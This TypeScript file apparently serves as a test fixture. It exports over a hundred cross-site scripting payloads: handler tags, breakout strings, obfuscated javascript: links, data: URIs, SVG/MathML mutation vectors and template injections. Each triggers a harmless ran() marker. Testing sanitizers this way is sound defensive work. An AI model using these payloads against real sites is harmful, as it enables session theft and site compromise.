// A hundred and twenty texts that run `ran()` where a page takes them for markup, a link, a script, a style or a template.

const run = 'ran()'
const handlers: Array<[tag: string, event: string]> = [
  ['img src=x', 'onerror'], ['img src=x:x', 'onerror'], ['image src=x', 'onerror'], ['audio src=x', 'onerror'], ['video src=x', 'onerror'], ['video><source src=x', 'onerror'],
  ['svg', 'onload'], ['svg/', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['body', 'onhashchange'], ['iframe', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onload'],
  ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['keygen autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a href=# autofocus', 'onfocus'],
  ['details open', 'ontoggle'], ['div popover id=p', 'onbeforetoggle'], ['marquee', 'onstart'], ['marquee loop=1', 'onfinish'], ['meter', 'onmouseover'], ['div style=position:fixed;inset:0', 'onpointerenter'],
  ['p style=animation:spin_1s', 'onanimationstart'], ['p style=transition:color_1s tabindex=1', 'ontransitionend'], ['style', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['script src=x', 'onerror'],
  ['math href=x', 'onclick'], ['isindex type=image src=1', 'onerror'], ['table background=x', 'onload'], ['frameset', 'onload'], ['form', 'onformdata'], ['track src=x', 'onerror'],
]
const breakouts = ['"', "'", '`', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>', '</noscript>', '</template>', '</select>', '</option>', '\\">', '\\u0022>']
const links = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript&#58;', 'javascript://%0a', 'javascript:/*-->*/',
  'vbscript:', 'livescript:', 'feed:javascript:', 'view-source:javascript:', 'jar:javascript:',
].map((scheme) => scheme + run)
const documents = [
  `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`, `data:text/javascript,${run}`, `blob:http://x/${run}`,
]
const scripts = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script/x>${run}</script>`, `<script\n>${run}</script >`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script src=data:,${run}></script>`, `<script type=module>${run}</script>`,
  `<script>/*</script>*/${run}</script>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<svg><script>${run}</script></svg>`, `<svg><script href=data:,${run} />`, `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><a xlink:href="javascript:${run}"><rect width=9 height=9 /></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${run} /></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<form action="javascript:${run}"><input type=submit autofocus></form>`, `<button formaction="javascript:${run}">x</button>`,
  `<a href="javascript:${run}">x</a>`, `<base href="javascript:${run}//">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<style>@import 'javascript:${run}';</style>`, `<div style="background:url(javascript:${run})">`, `<div style="width:expression(${run})">`, `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
]
const templates = [
  `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`, `{%${run}%}`, `[[${run}]]`, `\${{${run}}}`, `__proto__[innerHTML]=<img/src/onerror=${run}>`, `[x](javascript:${run})`, `![x](x"onerror="${run})`,
  `&lt;img src=x onerror=${run}&gt;`, `\\u003cimg src=x onerror=${run}\\u003e`, `%3Cimg src=x onerror=${run}%3E`,
]

/** Each runs `ran()` if it is ever taken for more than text. */
export const payloads: string[] = [
  ...handlers.map(([tag, event]) => `<${tag} ${event}=${run}>`),
  ...breakouts.map((end) => `${end}<img src=x onerror=${run}>`),
  ...links, ...documents, ...scripts, ...templates,
]
